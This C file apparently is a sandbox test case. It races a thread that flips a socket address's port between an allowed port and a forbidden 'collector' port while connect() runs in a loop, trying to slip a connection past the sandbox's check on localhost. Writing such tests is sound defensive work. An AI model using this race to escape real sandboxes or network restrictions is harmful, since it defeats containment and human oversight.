// Changes the port in memory between the check and the connection.
// class: OS sandboxes: a race between the check and the use of a socket address
// plain: message
// flags: --connect 127.0.0.1:{GRANTED}
// journal: connect *:{COLLECTOR}
#include "net.h"
#include "race.h"

static struct sockaddr_in target;

static void* flip_port(void* unused) {
  (void)unused;
  const in_port_t good = htons((uint16_t)number("GRANTED")), bad = htons((uint16_t)number("COLLECTOR"));
  while (!race_over) {
    target.sin_port = bad;
    linger(30);
    target.sin_port = good;
    linger(30);
  }
  return NULL;
}

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  target = at_v4("127.0.0.1", number("GRANTED"));
  const pthread_t thread = race_begin(flip_port);
  int connected = 0;
  for (int i = 0; race_goes_on(i, 400); ++i) {
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (struct sockaddr*)&target, sizeof target) == 0) ++connected;
    close(fd);
  }
  race_end(thread);
  target = at_v4("127.0.0.1", number("COLLECTOR"));
  connect_and_tell(socket(AF_INET, SOCK_STREAM, 0), &target, sizeof target, "the last try, which plainly always works");
  printf("connected %d times\n", connected);
  return 0;
}
